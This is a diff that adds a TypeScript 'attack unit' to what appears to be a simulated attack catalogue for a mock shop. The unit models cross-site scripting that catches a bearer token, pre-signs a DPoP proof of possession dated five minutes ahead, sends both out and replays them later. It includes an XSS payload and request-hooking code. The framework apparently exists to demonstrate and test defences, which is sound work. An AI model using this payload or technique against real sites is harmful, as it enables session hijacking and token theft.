@@ -1,0 +1,43 @@
+/** Script in the page makes proofs of possession for later, and sends them home with the token. Not: a copy of the key (replay-from-copy.ts). */
+import { rfc } from '#sources/sources';
+import { bearerFields } from '../shop/bearer';
+import { credentialsIn } from '../attacker/credentials-in';
+import type { AttackUnit } from '../attacker/attack';
+import type { Stolen } from '../attacker/stolen';
+
+/** Seconds: the attacker uses it then. */
+const LATER = 5 * 60;
+
+const attack: AttackUnit = {
+  order: 14,
+  group: 'script in the page',
+  label: 'Proofs made ahead',
+  also: ['DPoP', 'pre-generated proof', 'XSS', 'proof of possession'],
+  says: 'A script in the page can’t export the page’s key, but it can use it. It catches a token, signs a proof with a date five minutes ahead, and sends both home. The attacker uses them then.',
+  grants: ['markup in a page of the shop'],
+  sources: [rfc(9449, '11.2'), rfc(10017, '5.1.3')],
+  scene: ['log-in', 'read-orders'],
+  presupposes: { defences: ['dpop'] },
+  play: async (hands) => {
+    const page = await hands.inject('<img src="x" onerror="sign()">');
+    if (!page) return;
+    const caught: Stolen[] = [];
+    const hooked: typeof page = {
+      ...page,
+      send: (method, url, fields = [], ...rest) => {
+        caught.unshift(...credentialsIn({ method, url, fields, content: '' }));
+        return page.send(method, url, fields, ...rest);
+      },
+    };
+    await hands.mode.script.request(hooked, 'GET', '/orders');
+    const token = caught.find(({ type }) => type === 'token')?.value;
+    if (token === undefined)
+      return hands.note('The page’s code hands over no token that a proof could go with.');
+    const ahead = await page.prepareAhead('GET', '/orders', bearerFields(token), LATER);
+    await page.sendHome(JSON.stringify(ahead));
+    hands.wait(LATER);
+    await hands.send('GET', '/orders', ahead);
+  },
+};
+
+export default attack;
